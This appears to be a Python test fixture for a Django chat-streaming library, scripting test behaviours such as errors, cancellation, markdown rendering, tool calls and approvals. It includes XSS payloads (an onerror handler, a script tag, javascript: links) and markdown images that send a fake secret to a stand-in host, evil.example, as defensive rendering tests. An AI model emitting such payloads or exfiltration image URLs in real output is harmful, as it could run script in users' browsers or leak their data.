"""A chat view for the tests: the last message's text, one of the ``Prompt`` names, picks what
it does; any other text is answered "You said: <text>"."""

from __future__ import annotations

import asyncio
import os
from collections import defaultdict
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

from django.http import HttpRequest, HttpResponseBase

from django_streaming import (
    ApprovalRequest,
    ChatError,
    ChatMessage,
    ChatPart,
    ChatResult,
    ChatStreamView,
    Chunk,
    DataPart,
    FilePart,
    Finish,
    Metadata,
    ReasoningDelta,
    SourceDocument,
    SourceURL,
    Step,
    ToolCall,
    ToolDenied,
    ToolError,
    ToolInputDelta,
    ToolResult,
)
from tests.support.probes import probe

MARKDOWN = (
    "# Title\n\nSome *emphasis*, **strong** and `inline code`.\n\n"
    "- one\n- two\n\n1. first\n2. second\n\n"
    "```python\nprint('hi')\n```\n\n[a link](https://example.com/page)\n"
)
CODE_AND_MATH = (
    "A function:\n\n```python\ndef square(x):\n    return x * x  # the square\n```\n\n"
    "Its integral $\\int_0^1 x^2\\,dx$ is\n\n$$\\frac{1}{3}$$\n\nwhich costs $5 and $10.\n"
)
XSS = (
    '<img src=x onerror="window.pwned=1"> <script>window.pwned=2</script>\n\n'
    "[click](javascript:window.pwned=3) and ![img](javascript:window.pwned=4)\n\n"
    "[ok](/relative) [mail](mailto:a@example.com)\n"
)
#: A 1x1 PNG, for images that should load.
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6"
    "kgAAAABJRU5ErkJggg=="
)
#: Images from the page's origin, a data: URL, an allowed host (``cdn.example.com``, when the
#: page allows it) and one that is never allowed (``evil.example``), as an exfiltration would.
IMAGES = (
    f"![same](/same-origin.png) ![dot](data:image/png;base64,{PIXEL})\n\n"
    "![allowed](https://cdn.example.com/ok.png)\n\n"
    "![leak](https://evil.example/t.png?secret=s3cret) ![](https://evil.example/no-alt.png)\n"
)
# What the interop test sends and expects back, piece by piece.
TRICKY = [
    "Hello 😀 ",
    "漢字",
    "\nline two\r\n",
    "```js\nconst a = 1;\n```",
    "\ndata: not a field\n\n",
]


class Prompt:
    """The test chat's behaviours, by the prompt that asks for each.

    ===================  ========================================================================
    prompt               the answer
    ===================  ========================================================================
    ``FLAKY``            "partial ", then an error on a chat's first attempt; a plain answer after
    ``BUSY``             a ``ChatError``: its message reaches the client
    ``FAIL``             "partial ", then an unexpected error (its detail must not leak)
    ``WAIT``             "partial answer", then waits until it is cancelled
    ``PARTS``            reasoning, text, a data part and a source
    ``ODD_PARTS``        an empty delta, an untitled source, a transient data part, a non-part
    ``BENCH``            ``$BENCH_ANSWER``'s file at ``$BENCH_RATE`` pieces/s (the widget bench)
    ``ON_FINISH_FAILS``  "fine", then ``on_finish()`` raises
    ``MARKDOWN``         ``MARKDOWN``, 7 characters a delta
    ``CODE_AND_MATH``    ``CODE_AND_MATH``, 5 characters a delta
    ``XSS``              ``XSS``: markup and links the widget must render inert
    ``UNCLOSED``         an open code fence, then waits for the probe's gate before closing it
    ``TRICKY``           ``TRICKY``'s pieces: emoji, CJK, line endings, an SSE-looking line
    ``TOOLS``            text, a server tool with streamed input and a preliminary result, a step,
                         more text
    ``TOOL_ERROR``       a server tool that fails, then a step that says so
    ``APPROVAL``         a call of ``rename_chat`` that needs approval; continued: its result
                         (approved) or a denial, then a line of text
    ``CLIENT_TOOL``      a call of ``local_time``, which the browser runs; continued: "It is <it>."
    ``EXTRAS``           a file, a source document, metadata, a ``Chunk``, ``Finish("length")``,
                         and metadata on ``start``
    ``IMAGES``           ``IMAGES``, 5 characters a delta, then image file parts from
                         ``evil.example`` and ``cdn.example.com``
    ``lines(n, delay)``  n paragraphs, ``delay`` seconds apart (a long answer that scrolls); with
                         ``held=k``, the ``k + 1``-th waits for the probe's gate (its end with it)
    ===================  ========================================================================
    """

    FLAKY = "flaky"
    BUSY = "busy"
    FAIL = "fail"
    WAIT = "wait"
    PARTS = "parts"
    ODD_PARTS = "odd parts"
    BENCH = "bench"
    ON_FINISH_FAILS = "on_finish fails"
    MARKDOWN = "markdown"
    CODE_AND_MATH = "code and math"
    XSS = "xss"
    UNCLOSED = "unclosed"
    TRICKY = "tricky"
    TOOLS = "tools"
    TOOL_ERROR = "tool error"
    APPROVAL = "approval"
    CLIENT_TOOL = "client tool"
    EXTRAS = "extras"
    IMAGES = "images"

    @staticmethod
    def lines(count: int, delay: float = 0.02, *, held: int | None = None) -> str:
        return f"lines:{count}:{delay}" + ("" if held is None else f":{held}")


results: dict[str, list[ChatResult]] = {}
triggers: dict[str, list[str]] = {}


class TestChat(ChatStreamView):
    heartbeat = 0.5

    async def generate(self, messages: list[ChatMessage]) -> AsyncIterator[ChatPart]:
        if self.chat.continuation:
            async for part in _continue(messages[-1]):
                yield part
            return
        text = messages[-1].text
        if text in AGENT:
            async for part in AGENT[text]():
                yield part
            return
        state = probe(self.chat.chat_id or "-")
        state.started.set()
        attempts = triggers.setdefault(self.chat.chat_id or "-", [])
        attempts.append(self.chat.trigger)
        if text == Prompt.FLAKY and len(attempts) == 1:
            yield "partial "
            raise RuntimeError("first attempt fails")
        if text == Prompt.BUSY:
            raise ChatError("The model is busy; try again in a minute.")
        if text == Prompt.FAIL:
            yield "partial "
            raise RuntimeError("secret detail")
        if text == Prompt.WAIT:
            yield "partial answer"
            await asyncio.Event().wait()
        if text == Prompt.PARTS:
            yield ReasoningDelta("thinking")
            yield "answer"
            yield DataPart("weather", {"temperature": 21}, id="w1")
            yield SourceURL("https://example.com/source", title="Source")
            return
        if text == Prompt.ODD_PARTS:
            yield ""
            yield SourceURL("https://example.com/untitled")
            yield DataPart("progress", {"step": 1}, transient=True)
            yield 42  # type: ignore[misc]  # not a part: an error part
            return
        if text == Prompt.BENCH:  # benchmarks/widget.py: a long answer at a steady pace
            answer = await asyncio.to_thread(Path(os.environ["BENCH_ANSWER"]).read_text)
            pause = 1 / float(os.environ["BENCH_RATE"])
            for start in range(0, len(answer), 4):
                yield answer[start : start + 4]
                await asyncio.sleep(pause)
            return
        if text == Prompt.ON_FINISH_FAILS:
            self.on_finish_fails = True
            yield "fine"
            return
        if text == Prompt.CODE_AND_MATH:
            for start in range(0, len(CODE_AND_MATH), 5):
                yield CODE_AND_MATH[start : start + 5]
            return
        if text == Prompt.MARKDOWN:
            for start in range(0, len(MARKDOWN), 7):
                yield MARKDOWN[start : start + 7]
            return
        if text == Prompt.XSS:
            yield XSS
            return
        if text == Prompt.UNCLOSED:
            yield "```python\nprint('still streaming')\n"
            await asyncio.to_thread(state.gate.wait, 30)
            yield "```\n"
            return
        if text == Prompt.TRICKY:
            for piece in TRICKY:
                yield piece
            return
        if text.startswith("lines:"):
            count, delay, held = [*text.removeprefix("lines:").split(":"), "", ""][:3]
            for number in range(int(count)):
                if held and number == int(held):
                    await asyncio.to_thread(state.gate.wait, 30)
                yield f"Line {number} of a long answer.\n\n"
                await asyncio.sleep(float(delay or 0.02))
            return
        for attachment in messages[-1].files:  # what arrived: name, type, decoded size
            size = len(attachment.data or b"")
            yield f"({attachment.filename} {attachment.media_type} {size} bytes) "
        yield "You said: "
        yield text

    on_finish_fails = False

    def start_metadata(self) -> dict[str, str] | None:
        return {"model": "test-model"} if self.chat.messages[-1].text == Prompt.EXTRAS else None

    async def on_finish(self, result: ChatResult) -> None:
        key = result.chat_id or "-"
        results.setdefault(key, []).append(result)
        probe(key).finish(cancelled=result.status == "cancelled")
        if self.on_finish_fails:
            raise RuntimeError("on_finish failed")


async def _tools() -> AsyncIterator[ChatPart]:
    yield "Searching."
    yield ToolInputDelta("call-search", "search", '{"query":')
    yield ToolInputDelta("call-search", "search", '"django"}')
    yield ToolCall("search", {"query": "django"}, "call-search", title="Web search")
    yield ToolResult("call-search", {"hits": 1}, preliminary=True)
    yield ToolResult("call-search", {"hits": 2})
    yield Step()
    yield "Found 2."


async def _tool_error() -> AsyncIterator[ChatPart]:
    call = ToolCall("search", {"query": ""})
    yield call
    yield ToolError(call.id, "The index is down.")
    # The model goes on after its tool failed (a step with no call: the SDK does not send the
    # calls back to continue, as it would after a last step of finished calls).
    yield Step()
    yield "The search failed."


async def _approval() -> AsyncIterator[ChatPart]:
    call = ToolCall("rename_chat", {"title": "Renamed chat"}, "call-rename")
    yield call
    yield ApprovalRequest(call.id, "approval-rename")


async def _client_tool() -> AsyncIterator[ChatPart]:
    yield "Asking your browser."
    yield ToolCall("local_time", {}, "call-time")


async def _extras() -> AsyncIterator[ChatPart]:
    yield FilePart("data:text/plain;base64,aGk=", "text/plain")
    yield SourceDocument("doc-1", "application/pdf", "The manual", "manual.pdf")
    yield Metadata({"step": "extras"})
    yield Chunk({"type": "data-note", "data": {"n": 1}})
    yield "Cut short."
    yield Finish("length", {"tokens": 3})


async def _images() -> AsyncIterator[ChatPart]:
    for start in range(0, len(IMAGES), 5):  # an address arrives in pieces, after its alt text
        yield IMAGES[start : start + 5]
    yield FilePart("https://evil.example/file.png", "image/png")
    yield FilePart("https://cdn.example.com/file.png", "image/png")


AGENT = {
    Prompt.TOOLS: _tools,
    Prompt.TOOL_ERROR: _tool_error,
    Prompt.APPROVAL: _approval,
    Prompt.CLIENT_TOOL: _client_tool,
    Prompt.EXTRAS: _extras,
    Prompt.IMAGES: _images,
}


async def _continue(message: ChatMessage) -> AsyncIterator[ChatPart]:
    """The answer after the browser sent its tools' outputs or approvals."""
    for call in message.tool_calls:
        if call.state == "approval-responded" and call.approval is not None:
            if call.approval.approved:
                yield ToolResult(call.id, {"title": call.input["title"]})
                yield "Renamed."
            else:
                yield ToolDenied(call.id)
                yield "Left as it is."
        elif call.name == "local_time" and call.state == "output-available":
            yield f"It is {call.output['time']}."


#: By chat id: the status of each resume (``GET <chat>/stream``) the server answered, in order.
resumes: defaultdict[str, list[int]] = defaultdict(list)
#: The chat ids whose resumes wait for the gate of ``probe(f"{chat_id} resume")`` (30 s at most).
held_resumes: set[str] = set()


#: By chat id: the id its next answer's message gets (else a new one).
message_ids: dict[str, str] = {}


class ResumableChat(TestChat):
    resumable = True

    def generate_message_id(self) -> str:
        return message_ids.get(self.chat.chat_id or "", "") or super().generate_message_id()

    async def aresume(self, request: HttpRequest, *args: Any, **kwargs: Any) -> HttpResponseBase:
        chat_id = kwargs.get("chat_id", "")
        if chat_id in held_resumes:
            held = probe(f"{chat_id} resume")
            held.started.set()
            await asyncio.to_thread(held.gate.wait, 30)
        response = await super().aresume(request, *args, **kwargs)
        resumes[kwargs.get("chat_id", "")].append(response.status_code)
        return response
